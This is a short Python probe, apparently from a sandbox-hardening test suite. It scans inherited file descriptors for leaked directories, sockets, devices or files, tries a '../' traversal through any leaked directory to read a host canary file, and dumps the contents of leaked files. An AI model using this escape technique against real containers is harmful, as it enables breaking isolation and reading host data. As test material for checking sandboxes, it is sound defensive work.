"""Looks for descriptors that it was given by mistake: folders, sockets, files of the host."""

import os
import stat

from attacker import got, host, show, tried

UNPROTECTED = "refused"

tried("descriptors 3 to 1023")
for fd in range(3, 1024):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(mode) or stat.S_ISSOCK(mode) or stat.S_ISBLK(mode):
        got(f"descriptor {fd} of mode {mode:o}, {os.readlink(f'/proc/self/fd/{fd}')}")
        try:
            inner = os.open("../" * 16 + host["canary"].lstrip("/"), os.O_RDONLY, dir_fd=fd)
            show(os.read(inner, 100))
        except OSError:
            pass
    if stat.S_ISREG(mode):
        show(os.pread(fd, 4096, 0))
